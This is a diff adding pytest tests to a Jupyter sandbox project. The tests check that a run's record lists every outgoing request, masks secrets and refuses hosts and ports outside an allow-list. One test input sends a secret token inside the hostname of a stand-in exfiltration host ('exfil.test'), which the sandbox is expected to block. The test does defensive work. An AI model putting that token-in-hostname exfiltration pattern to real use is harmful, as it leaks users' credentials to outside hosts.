@@ -35,6 +35,7 @@ from _kernels import kernel
 
 from jupyter_sandbox import SandboxConfigError, create
 from jupyter_sandbox.errors import NonZeroExit
+from jupyter_sandbox.records import RUN_MIME
 
 pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("no_leaked_containers")]
 
@@ -352,7 +353,150 @@ def test_a_refused_host_fails_the_cell_in_one_line(world, shell, capsys):
     assert (error.parameter, error.hint) == ("allow_net", "network=[...]")
     shown = capsys.readouterr()
     assert "refused other.test:8080: add it to --allow-net" in shown.out + shown.err
+    # the record's text fallback: what the run sent out, the refused request named
+    assert "1 request: 0 allowed, 1 refused: other.test:8080 not on the list" in shown.out
     assert _lines(world["b"]) == []
+
+
+SENT = (
+    CLIENT
+    + r"""
+import os
+t = os.environ["JSBX_TEST_REQUEST_TOKEN"]
+print(json.dumps([
+    get(f"http://allowed.test:8080/ok?key={t}"),
+    get(f"http://allowed.test:8080/p/{t}/x"),
+    tunnel("allowed.test:8080", "GET /tunnel HTTP/1.0\r\n\r\n"),
+    get("http://other.test:8080/away"),
+    get("http://allowed.test:8081/port"),
+    get(f"http://{t}.exfil.test/"),
+]))
+"""
+)
+"""Requests a run's record must list: allowed ones (a query, a secret in the path, a tunnel)
+and refused ones (another host, another port, a secret in the host)."""
+
+
+@pytest.fixture
+def spans() -> Iterator[Any]:
+    """Tracing on, into an in-memory exporter of this module's own."""
+    from opentelemetry import trace
+    from opentelemetry.sdk.trace import TracerProvider
+    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+    from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
+
+    from jupyter_sandbox import _otel
+
+    exporter = InMemorySpanExporter()
+    provider = trace.get_tracer_provider()
+    if isinstance(provider, trace.ProxyTracerProvider):
+        provider = TracerProvider()
+        trace.set_tracer_provider(provider)
+    assert isinstance(provider, TracerProvider)
+    provider.add_span_processor(SimpleSpanProcessor(exporter))
+    _otel.configure(True)
+    try:
+        yield exporter
+    finally:
+        _otel.configure(None)
+        exporter.shutdown()
+
+
+def test_a_runs_record_lists_every_request_it_sent_with_queries_and_secrets_masked(
+    world, monkeypatch, spans
+):
+    from jupyter_sandbox.display import _html, _text
+
+    token = "tok" + os.urandom(8).hex()
+    monkeypatch.setenv("JSBX_TEST_REQUEST_TOKEN", token)
+    sandbox = create(
+        "sent",
+        code=SENT,
+        network=["allowed.test:8080"],
+        secrets=["JSBX_TEST_REQUEST_TOKEN"],
+        timeout=180,
+    )
+    run = sandbox.execute({})
+    statuses = json.loads(run.stdout.strip().splitlines()[-1])
+    assert statuses[:2] + statuses[3:] == [200, 200, 403, 403, 403], statuses
+    record = run.to_record()
+    log = record["requests"]
+    assert (log["total"], log["allowed"], log["refused"]) == (6, 3, 3), log
+    rows = [
+        (r["method"], r["host"], r["port"], r["path"], r["status"], r["allowed"], r["why"])
+        for r in log["rows"]
+    ]
+    assert rows == [
+        ("GET", "allowed.test", 8080, "/ok?***", 200, True, None),
+        ("GET", "allowed.test", 8080, "/p/***/x", 200, True, None),
+        ("CONNECT", "allowed.test", 8080, "", 200, True, None),
+        ("GET", "other.test", 8080, "/away", 403, False, "not on the list"),
+        ("GET", "allowed.test", 8081, "/port", 403, False, "port not on the list"),
+        ("GET", "***.exfil.test", 80, "/", 403, False, "not on the list"),
+    ], rows
+    assert all(r["sent"] > 0 and r["received"] > 0 for r in log["rows"]), log["rows"]
+    times = [r["time"] for r in log["rows"]]
+    assert times == sorted(times) and run.duration > times[-1] - times[0], times
+    # what arrived at the server: the query and the secret the code sent, which the log masks
+    assert f"http 8080 /ok?key={token}" in _lines(world["a"])
+    assert _lines(world["b"]) == []
+
+    from jupyter_sandbox.display._format import summarised
+
+    shown = summarised(record)
+    line = (
+        "6 requests: 3 allowed, 3 refused: other.test:8080 not on the list,"
+        " allowed.test:8081 port not on the list, ***.exfil.test:80 not on the list"
+    )
+    assert shown.get("summary", {}).get("requests") == line
+    text, html = _text.render(shown), _html.render(shown)
+    assert line in text and "allowed.test:8081" in text.split(line, 1)[1]
+    assert 'class="jsb-requests"' in html and "/p/***/x" in html
+    (span,) = [s for s in spans.get_finished_spans() if s.name == "sandbox sent"]
+    assert span.attributes["jupyter_sandbox.sandbox.requests.refused"] == 3
+    events = [dict(e.attributes) for e in span.events if e.name == "http request"]
+    assert [(e["server.address"], e["server.port"]) for e in events] == [
+        (host, port) for _, host, port, *_ in rows
+    ]
+    assert events[3]["jupyter_sandbox.request.why"] == "not on the list"
+    for said in (json.dumps(record), text, html, repr(events)):
+        assert token not in said
+
+
+def test_runs_in_flight_together_each_list_only_their_own_requests(world):
+    """One proxy serves every run of an allow-list: a run's rows are its own container's.
+    The first run's second request is made while the second run still runs."""
+    allow = ["allowed.test:8080"]
+    first = InFlight(
+        CLIENT
+        + "first = get('http://allowed.test:8080/one')\n"
+        + DOOR
+        + "door.accept()\nprint(get('http://allowed.test:8080/one-again'))\n",
+        allow,
+    )
+    try:
+        status, address = first.first()
+        assert status == "200"
+        code = (
+            CLIENT
+            + "print(get('http://allowed.test:8080/two'))\n"
+            + _knock(address)
+            + "\nimport time; time.sleep(2)\n"
+        )
+        second = create("second", code=code, network=allow, timeout=180).execute({})
+        assert first.end() is None, first.outcome
+    finally:
+        first.stop()
+    assert first.run.stdout.strip().endswith("200")
+    assert _paths(first.run.to_record()) == ["/one", "/one-again"]
+    assert _paths(second.to_record()) == ["/two"]
+    assert _lines(world["a"]).index("http 8080 /two") < _lines(world["a"]).index(
+        "http 8080 /one-again"
+    )
+
+
+def _paths(record: Any) -> list[str]:
+    return [row["path"] for row in record["requests"]["rows"]]
 
 
 def test_a_refused_host_is_the_first_line_of_the_cells_error(world, tmp_path):
@@ -370,6 +514,17 @@ def test_a_refused_host_is_the_first_line_of_the_cells_error(world, tmp_path):
         "exited with code 1 (its stderr above says why)",
     ], error["traceback"]
     assert "HTTP Error 403: Forbidden" in ran.text  # the stderr, above
+    *_, shown = [  # the record's last state: the run's end
+        m["content"]["data"]
+        for m in ran.outputs
+        if m["msg_type"] in ("display_data", "update_display_data")
+        and RUN_MIME in m["content"].get("data", {})
+    ]
+    log = shown[RUN_MIME]["requests"]
+    assert log["refusals"] == {"other.test:8080": "not on the list"}, log
+    line = "1 request: 0 allowed, 1 refused: other.test:8080 not on the list"
+    assert shown[RUN_MIME]["summary"]["requests"] == line
+    assert line in shown["text/plain"] and line in shown["text/html"]
     assert _lines(world["b"]) == []
 
 
